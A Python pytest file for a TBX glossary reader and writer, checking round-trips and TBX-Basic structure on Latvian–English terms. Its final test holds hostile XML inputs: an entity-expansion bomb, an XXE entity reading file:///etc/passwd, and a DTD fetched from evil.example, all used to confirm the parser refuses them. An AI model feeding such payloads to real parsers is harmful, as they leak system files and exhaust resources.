from dataclasses import replace

import pytest
from lxml import etree

from glossary.exchange import tbx
from glossary.exchange.concept import Concept, Named
from glossary.exchange.refusals import Refused
from tests.glossary.test_skos import ALL, COMMUNITY, PLAIN, WORK

NAMES = {"t": tbx.SPACE}
XML = "{http://www.w3.org/XML/1998/namespace}lang"


def test_what_is_written_is_read_back_but_broader_terms_are_related_ones():
    expected = [WORK, replace(COMMUNITY, broader=(), related=(WORK.key, PLAIN.key)), PLAIN]
    assert tbx.read(tbx.write(ALL, title="Vārdnīca")) == expected


def test_the_file_is_tbx_basic():
    root = etree.fromstring(tbx.write(ALL, title="Vārdnīca"))
    assert (root.tag, root.get("type"), root.get("style")) == (f"{{{tbx.SPACE}}}tbx", "TBX-Basic", "dca")
    entries = root.findall("t:text/t:body/t:conceptEntry", NAMES)
    assert [entry.get("id") for entry in entries] == ["c1", "c2", "c3"]
    assert [section.get(XML) for section in entries[1].findall("t:langSec", NAMES)] == ["lv", "en"]
    terms = [term.text for term in entries[1].findall("t:langSec[1]/t:termSec/t:term", NAMES)]
    assert terms == ["sociālais darbs kopienā", "SDK", "kopienas darbs"]


def entry(inside):
    return f'<tbx xmlns="{tbx.SPACE}" type="TBX-Basic"><text><body>{inside}</body></text></tbx>'.encode()


def term(text):
    return f"<termSec><term>{text}</term></termSec>"


def test_a_file_of_others_is_understood():
    content = entry(
        f'<conceptEntry id="7"><langSec xml:lang="en-GB">{term("work")}{term("labour")}</langSec>'
        f'<langSec xml:lang="lv">{term("darbs")}</langSec></conceptEntry>'
        f'<conceptEntry><langSec xml:lang="en">{term("only English")}</langSec></conceptEntry>'
    )
    names = (Named("en", "preferred", "work"), Named("en", "synonym", "labour"))
    assert tbx.read(content) == [Concept("7", "darbs", names)]


BOMB = b'<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + entry(f"{term('&b;')}")
ELSEWHERE = b'<!DOCTYPE t [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + entry(f"{term('&a;')}")


@pytest.mark.parametrize(
    "content",
    [b"", b"<tbx", b"<html/>", BOMB, ELSEWHERE, b'<!DOCTYPE t SYSTEM "http://evil.example/t.dtd">' + entry(""),
     b"<a>" * 100_000],
)  # fmt: skip
def test_what_is_no_tbx_or_brings_entities_is_refused(content):
    with pytest.raises(Refused, match="nevar nolasīt kā TBX"):
        tbx.read(content)
